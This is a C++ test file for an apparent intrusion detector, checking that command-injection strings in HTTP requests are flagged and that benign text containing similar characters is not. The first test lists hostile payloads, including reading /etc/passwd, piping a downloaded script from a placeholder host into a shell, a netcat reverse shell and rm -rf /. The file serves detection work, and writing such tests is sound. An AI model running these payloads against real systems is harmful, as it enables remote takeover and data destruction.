#include <doctest/doctest.h>

#include "threats/hearing.h"

namespace vmoat {

TEST_CASE("command-injection: commands behind a separator") {
  for (const char* attack : {"127.0.0.1; cat /etc/passwd",
                             "127.0.0.1|id",
                             "8.8.8.8;id",
                             "|id",
                             ";ls",
                             "127.0.0.1 && whoami",
                             "a || whoami",
                             "x; uname -a",
                             "$(id)",
                             "`id`",
                             "x;wget http://a.example/x.sh",
                             "x|curl -s http://a.example|sh",
                             "x;nc -e /bin/sh 192.0.2.1 4444",
                             "1\nid",
                             "x; sleep 5",
                             "x & ping -c 3 192.0.2.1",
                             "x;/bin/bash -i",
                             "x|/usr/bin/id",
                             ";cd /tmp;rm -rf *;wget http://a.example/m",
                             "x;cat${IFS}/etc/passwd",
                             "x|powershell -enc aaaa",
                             "x&ipconfig",
                             "x; nslookup a.example/x",
                             "x;echo $(id)",
                             "$(sleep 10)",
                             "x & dir c:/windows",
                             "x;rm -rf /",
                             "x; bash -c 'id'"})
    check_raised("command-injection", "http", {{true, get_with(attack)}});
}

TEST_CASE("command-injection: prose, lists and code are silent") {
  for (const char* innocent : {"R&D ip law",
                               "dogs; cat food",
                               "cats|dogs",
                               "name|id",
                               "date;id",
                               "salt & pepper",
                               "Smith & sh",
                               "ping pong; echo chamber",
                               "a; ls of b",
                               "curl; wget; nc",
                               "rock & cat stevens",
                               "first | type of thing",
                               "$5 & up",
                               "`code` and `ls -l` in text",
                               "use `cat file` here",
                               "AT&T; bash history",
                               "a && b",
                               "x || y",
                               "sh; it is late",
                               "id",
                               "cat",
                               "tea;env",
                               "sleep; rest",
                               "list: a\nb\nid cards",
                               "perl & python",
                               "net; profit",
                               "Dir & type",
                               "fields=a,b|c"})
    check_silent("http", {{true, get_with(innocent)}});
}

}  // namespace vmoat
